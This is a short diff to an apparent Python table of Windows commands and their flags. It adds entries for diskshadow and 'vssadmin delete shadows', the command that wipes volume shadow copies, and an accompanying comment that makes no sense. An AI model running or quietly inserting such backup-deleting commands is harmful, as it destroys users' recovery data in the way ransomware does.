@@ -29,6 +29,8 @@ PROGRAMS = {
 CMD = {
     "mklink": (["/d"], 2), "rmdir": ([], 1), "mkdir": ([], 1), "rd": (["/s", "/q"], 1), "del": (["/f", "/q"], 1),
     "move": (["/y"], 2), "ren": ([], 2),
+    # for each file that forfiles finds, in a lease
+    r"C:\Windows\System32\diskshadow.exe": (["/s"], 1), r"C:\Windows\System32\vssadmin.exe": (["delete", "shadows"], 2),
 }  # fmt: skip
 
 
